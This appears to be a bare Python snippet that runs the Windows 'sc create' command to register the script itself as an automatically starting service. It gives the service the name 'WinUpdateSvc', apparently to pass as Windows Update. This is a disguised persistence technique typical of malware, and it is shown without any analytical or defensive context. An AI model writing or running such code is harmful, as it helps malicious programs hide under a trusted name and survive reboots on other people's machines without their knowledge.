import os, sys, subprocess
subprocess.run(f'sc create WinUpdateSvc binPath= "{sys.executable} {os.path.abspath(__file__)}" start= auto', shell=True)
